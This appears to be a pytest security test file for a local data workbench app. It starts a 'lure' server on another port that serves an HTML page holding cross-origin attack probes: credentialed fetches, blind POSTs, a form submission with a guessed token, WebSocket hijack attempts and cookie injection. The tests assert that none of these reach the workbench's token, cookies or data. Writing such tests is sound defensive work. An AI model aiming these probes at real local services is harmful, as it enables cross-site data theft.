"""Another account of the machine serves a page beside the workbench, and its own person is lured there."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import lookalike as la

_SERVER = r"""
import encodings.idna, http.server, json, os, sys

if os.name == "posix" and os.getuid() == 0:  # who may, becomes somebody else
    import pwd

    os.setgroups([])
    os.setgid(pwd.getpwnam("nobody").pw_gid)
    os.setuid(pwd.getpwnam("nobody").pw_uid)

class Lure(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
        print(json.dumps([self.path, dict(self.headers), body]), flush=True)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("set-cookie", "%s=guess; Path=/" % NAME)
        self.send_header("content-length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE.encode())
    do_POST = do_GET
    def log_message(self, *given):
        pass

NAME, PAGE = sys.argv[1], sys.argv[2]
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Lure)
print(server.server_port, flush=True)
server.serve_forever()
"""

_PAGE = """<!doctype html><title>lure</title>
<iframe name="inner" src="TARGET/"></iframe><iframe name="posted"></iframe>
<img src="TARGET/"><script src="TARGET/"></script>
<form method="post" target="posted" action="TARGET/"><input name="token" value="guess"></form>
<script>
const said = [document.cookie, document.referrer];
const asked = path => fetch("TARGET" + path, {credentials: "include"})
  .then(r => r.text()).then(t => said.push("read " + t)).catch(() => 0);
const blind = path => fetch("TARGET" + path, {credentials: "include", mode: "no-cors", method: "POST", body: "x"})
  .then(r => said.push("blind " + r.type + r.status)).catch(() => 0);
const socket = path => new Promise(done => {
  const s = new WebSocket("TARGET".replace("http", "ws") + path);
  s.onopen = () => {said.push("socket open"); done()}; s.onerror = done});
document.forms[0].submit();
Promise.all([asked("/"), asked("/rows/x"), blind("/"), socket("/"),
    socket("/_nicegui_ws/socket.io/?EIO=4&transport=websocket")])
  .then(() => new Promise(done => setTimeout(done, 1000)))
  .then(() => fetch("/said", {method: "POST", body: JSON.stringify(said)}))
  .then(() => document.title = "done");
</script>"""


class Lure:
    """A server of another account, where this test may start one, and all that reached it."""

    def __init__(self, target: str, cookie: str, log: Path) -> None:
        self.log = log.open("w+")
        page = _PAGE.replace("TARGET", target)
        self.process = subprocess.Popen([sys.executable, "-c", _SERVER, cookie, page], stdout=self.log)
        while not (told := log.read_text()) and self.process.poll() is None:
            time.sleep(0.05)
        self.port = int(told.split("\n")[0])

    @property
    def received(self) -> str:
        return Path(self.log.name).read_text()


@pytest.fixture
def lure(tmp_path: Path) -> Iterator[Callable[[str, str], Lure]]:
    started: list[Lure] = []

    def start(target: str, cookie: str) -> Lure:
        started.append(Lure(target, cookie, tmp_path / "lure"))
        return started[-1]

    yield start
    for server in started:
        server.process.kill()
        server.process.wait()
        server.log.close()


def status(address: str, cookie: str) -> int:
    """What a program of the other account is answered."""
    request = urllib.request.Request(address, headers={"Cookie": cookie})
    try:
        return int(urllib.request.urlopen(request, timeout=10).status)
    except urllib.error.HTTPError as refused:
        return refused.code


def test_a_lure_on_another_port_gets_nothing_that_opens_the_table(
    serve: Callable[..., Any], lure: Callable[[str, str], Lure], chromium: Any, tmp_path: Path
) -> None:
    la.datasets.population(150, seed=3).write_csv(tmp_path / "people.csv")
    server = serve(tmp_path / "people.csv")
    workbench, token = re.fullmatch(r"(http://[\d.:]+)/\?token=(\S+)", server.address).groups()  # type: ignore[union-attr]
    port = workbench.rsplit(":", 1)[1]
    context = chromium.new_context()
    page = context.new_page()
    page.goto(server.address)
    page.wait_for_selector("h1")
    ours = {cookie["value"] for cookie in context.cookies(page.url)}
    root = page.url.removeprefix(workbench).strip("/")
    assert len(ours) == 1
    trap = lure(workbench, f"lookalike_{port}")
    for name in ("127.0.0.1", "localhost", "somebody.localhost"):
        other = context.new_page()
        other.goto(f"http://{name}:{trap.port}/")
        other.wait_for_function("document.title === 'done'", timeout=20_000)
        framed = [frame for frame in other.frames if frame.name in ("inner", "posted")]
        assert len(framed) == 2
        assert not any("Lookalike" in frame.content() for frame in framed)
        other.close()
    received = trap.received
    for secret in (token, root, *ours):
        assert secret not in received
    said = [json.loads(line)[2] for line in received.splitlines()[1:] if '"/said"' in line]
    assert len(said) == 3
    assert not any("read" in text or "socket open" in text for text in said)
    cookies = [json.loads(line)[1].get("Cookie", "") for line in received.splitlines()[1:]]
    assert {status(f"{workbench}/{path}", cookie) for cookie in cookies for path in ("", root)} == {403}
    page.reload()  # the cookies that the lure has set lock nobody out
    page.wait_for_selector("h1")
    context.close()


def test_the_page_that_the_browser_is_started_with_leads_to_the_workbench(
    serve: Callable[..., Any], chromium: Any
) -> None:
    server = serve()
    (leading,) = server.temporary.glob("lookalike-serve-*/open.html")
    assert leading.stat().st_mode & 0o077 == 0
    context = chromium.new_context()
    page = context.new_page()
    page.goto(leading.as_uri())
    page.wait_for_selector("h1")
    assert "token" not in page.url
    page.go_back()  # neither the file nor the address with the token stays in the tab's history
    assert "token" not in page.url
    context.close()


def test_no_command_line_holds_the_token(monkeypatch: pytest.MonkeyPatch) -> None:
    from lookalike.cli import serve as command
    from lookalike.web import serving

    opened: list[str] = []
    monkeypatch.setattr("webbrowser.open", opened.append)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    monkeypatch.setattr(serving, "serve", lambda file, tell, **about: tell("http://x/?token=T", "file:///y"))
    command.serve(None, port=0, host="127.0.0.1", folder=Path(), most=500, quiet=False)
    assert opened == ["file:///y"]
